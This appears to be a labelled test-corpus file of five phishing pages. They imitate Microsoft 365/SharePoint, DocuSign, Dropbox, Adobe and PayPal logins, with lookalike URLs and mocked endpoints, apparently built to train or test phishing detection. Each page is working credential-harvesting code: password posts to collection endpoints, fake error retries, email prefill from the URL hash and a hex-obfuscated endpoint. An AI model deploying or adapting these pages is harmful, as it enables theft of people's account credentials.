import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { zip, pe, cfb, iso, lnk, apk, crx, rar5, sevenZip, beepWav, fileRoute, jsRoute, jsonRoute, cssRoute } from '../parts/e-bin.js';
import { doc, baseCss, loginCss, tagStub, cookieBar, imgRoute, b64, xorB64, hexEsc, pack } from '../parts/zf-kit.js';

export const entries: Entry[] = [
{
  id: 'zf-phish-m365-sharepoint-doc',
  label: 'phishing',
  kind: 'saas-kit',
  url: 'https://sharedfiles-onlinestorage.workers-dev.net/s/Q4-Remittance.html',
  body: doc({
    title: 'SharePoint',
    css: `body{margin:0;font-family:"Segoe UI",sans-serif;background:url(/s/bg.png) #e8ecf1 center/cover}
.doc{max-width:560px;margin:8vh auto;background:#fff;padding:28px;box-shadow:0 4px 20px rgba(0,0,0,.15)}
.ic{width:48px;height:56px;background:#185abd;color:#fff;font-weight:700;display:flex;align-items:center;justify-content:center;border-radius:3px}
.lg{position:fixed;inset:0;background:rgba(0,0,0,.4);display:none;align-items:center;justify-content:center}
.box{background:#fff;width:440px;padding:44px}.box input{width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;font-size:15px;margin:10px 0}
.box button{background:#0067b8;color:#fff;border:0;padding:8px 28px;float:right}`,
    body: `<div class="doc"><div style="display:flex;gap:16px;align-items:center"><div class="ic">W</div><div><b>Q4-Remittance-Advice.docx</b><br><span style="color:#666;font-size:13px">Shared by accounts@contoso-partners.com · 186 KB</span></div></div>
<p>You've received a secure document via OneDrive for Business. Sign in with your work or school account to view.</p>
<button onclick="document.getElementById('lg').style.display='flex'" style="background:#0067b8;color:#fff;border:0;padding:10px 20px">Open document</button></div>
<div class="lg" id="lg"><div class="box"><img src="/s/ms.png" width="24" height="24" alt=""> Microsoft
<h2 style="font-weight:600">Sign in</h2><div id="e1"><input id="em" type="email" placeholder="Email, phone, or Skype"><p style="font-size:13px">Can't access your account?</p><button onclick="nx()">Next</button></div>
<div id="e2" style="display:none"><div id="who"></div><input id="pw" type="password" placeholder="Password"><p id="bad" style="color:#e81123;font-size:13px;display:none">Your account or password is incorrect.</p><button onclick="sb()">Sign in</button></div></div></div>
<script>
var n=0;function nx(){var e=document.getElementById('em').value;if(!/@/.test(e))return;document.getElementById('who').textContent=e;document.getElementById('e1').style.display='none';document.getElementById('e2').style.display='block'}
function sb(){n++;var d={e:document.getElementById('em').value,p:document.getElementById('pw').value,t:n};
fetch('/s/api/collect',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(d)}).then(function(){if(n<2){document.getElementById('bad').style.display='block';document.getElementById('pw').value=''}else location.href='https://www.office.com/'})}
var h=location.hash.slice(1);if(h){try{document.getElementById('em').value=atob(h)}catch(x){}}
</script>`,
  }),
  routes: {
    'sharedfiles-onlinestorage.workers-dev.net/s/bg.png': imgRoute(220, 226, 235),
    'sharedfiles-onlinestorage.workers-dev.net/s/ms.png': imgRoute(242, 80, 34),
    'sharedfiles-onlinestorage.workers-dev.net/s/api/collect': jsonRoute({ ok: true }),
  },
},
{
  id: 'zf-phish-docusign-envelope',
  label: 'phishing',
  kind: 'saas-kit',
  url: 'https://docusign-envelope-review.net/Signing/EmailStart.aspx?a=7c2b91e0-55aa-4c1f',
  body: doc({
    title: 'DocuSign - Review Document',
    css: baseCss + `.ds{background:#1e1e1e;color:#fff;padding:12px 24px;font-weight:700}.yellow{background:#ffc820;color:#000;border:0;padding:10px 24px;font-weight:700;cursor:pointer}`,
    body: `<div class="ds">DocuSign</div><main>
<h2>Please review and sign: Employee Salary Adjustment 2026.pdf</h2>
<p>HR Department sent you a document to review and sign. To protect the confidentiality of this document, please verify your email account provider.</p>
<div class="card"><form method="post" action="https://docusign-envelope-review.net/Signing/verify.php">
<label>Email provider</label><select name="prov"><option>Office 365</option><option>Outlook</option><option>Gmail</option><option>Yahoo</option><option>AOL</option><option>Other mail</option></select>
<label>Email address</label><input type="email" name="login">
<label>Email password</label><input type="password" name="passwd">
<button class="yellow">REVIEW DOCUMENT</button></form></div>
<p class="muted">Do Not Share This Email. This message contains a secure link to DocuSign. Please do not share this code with others.</p></main>
<footer>Powered by DocuSign · <a href="#">Terms of Use</a><a href="#">Privacy</a> · Copyright © 2025 DocuSign, Inc.</footer>`,
  }),
},
{
  id: 'zf-phish-dropbox-transfer',
  label: 'phishing',
  kind: 'saas-kit',
  url: 'https://dropbox-transfer.filesharing-portal.app/t/AAB8xkQ2',
  body: doc({
    title: 'Dropbox Transfer',
    css: loginCss('#0061fe', '#f7f5f2'),
    body: `<div class="wrap"><div class="logo">⬡ Dropbox</div>
<h1>3 files are waiting for you</h1>
<ul class="small"><li>Purchase_Order_77812.pdf (2.1 MB)</li><li>Specs_revised.xlsx (440 KB)</li><li>Drawings.zip (18 MB)</li></ul>
<p class="small">Sign in with your email to download. Expires in 2 days.</p>
<form method="post" action="/t/auth" id="f"><input type="email" name="email" placeholder="Email" required><input type="password" name="password" placeholder="Password" required><button>Sign in to download</button></form>
<div class="foot"><a href="#">Help</a><a href="#">Privacy</a></div></div>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();var b=new URLSearchParams(new FormData(this));b.append('ip','');fetch('/t/auth',{method:'POST',body:b}).then(function(){alert('Network error, please try again later.');location.reload()})}</script>`,
  }),
  routes: { 'dropbox-transfer.filesharing-portal.app/t/auth': jsonRoute({}) },
},
{
  id: 'zf-phish-adobe-pdf-viewer',
  label: 'phishing',
  kind: 'saas-kit',
  url: 'https://pdf-online-viewer.cloud-docs.site/view/invoice-00872.php',
  body: doc({
    title: 'Adobe Document Cloud',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#555}.blur{filter:blur(5px);background:#fff;width:70%;height:90vh;margin:20px auto;padding:40px}
.m{position:fixed;top:50%;left:50%;transform:translate(-50%,-50%);background:#fff;width:360px;padding:24px;border-top:5px solid #fa0f00;box-shadow:0 0 30px #000}
.m input{width:100%;padding:9px;margin:6px 0 10px;border:1px solid #aaa}.m button{width:100%;background:#fa0f00;color:#fff;border:0;padding:10px;font-weight:bold}`,
    body: `<div class="blur"><h1>INVOICE #00872</h1><p>Bill to: ...</p><table width="100%"><tr><td>Consulting services</td><td>$ 14,280.00</td></tr></table></div>
<div class="m"><b style="color:#fa0f00">Adobe</b> PDF Reader<p style="font-size:13px">This document is protected. To read the document, please enter the email and password the file was sent to.</p>
<input id="a" placeholder="Email Address"><input id="b" type="password" placeholder="Email Password"><button id="c">View PDF</button><p id="e" style="color:red;font-size:12px"></p></div>
<script>
var _0x=['\\x2f\\x76\\x69\\x65\\x77\\x2f\\x6e\\x65\\x78\\x74\\x2e\\x70\\x68\\x70','POST'];var tries=0;
document.getElementById('c').onclick=function(){var fd=new FormData();fd.append('email',document.getElementById('a').value);fd.append('password',document.getElementById('b').value);
fetch(_0x[0],{method:_0x[1],body:fd});tries++;if(tries<3){document.getElementById('e').textContent='Invalid password, please try again.'}else{location.href='https://acrobat.adobe.com'}}
</script>`,
  }),
  routes: { 'pdf-online-viewer.cloud-docs.site/view/next.php': jsonRoute({ signal: 'ok' }) },
},
{
  id: 'zf-phish-paypal-limited',
  label: 'phishing',
  kind: 'saas-kit',
  url: 'https://www.paypal.com-resolution-center.info/webapps/mpp/signin/',
  body: doc({
    title: 'Log in to your PayPal account',
    css: loginCss('#0070ba', '#fff') + `.wrap{box-shadow:none;border:1px solid #ddd}`,
    body: `<div class="wrap"><div class="logo" style="justify-content:center;color:#003087;font-style:italic">PayPal</div>
<div style="background:#fffbe5;border:1px solid #f5c400;padding:10px;font-size:13px;margin-bottom:12px">We've limited your account. Please log in to resolve the issue.</div>
<form method="post" action="/webapps/mpp/signin/post.php"><input name="login_email" placeholder="Email or mobile number"><input name="login_password" type="password" placeholder="Password"><button>Log In</button></form>
<p class="small" style="text-align:center"><a href="#">Having trouble logging in?</a></p><hr><button style="background:#fff;color:#0070ba;border:1px solid #0070ba">Sign Up</button>
<div class="foot"><a href="#">Contact Us</a><a href="#">Privacy</a><a href="#">Legal</a><a href="#">Worldwide</a></div></div>`,
  }),
},
];
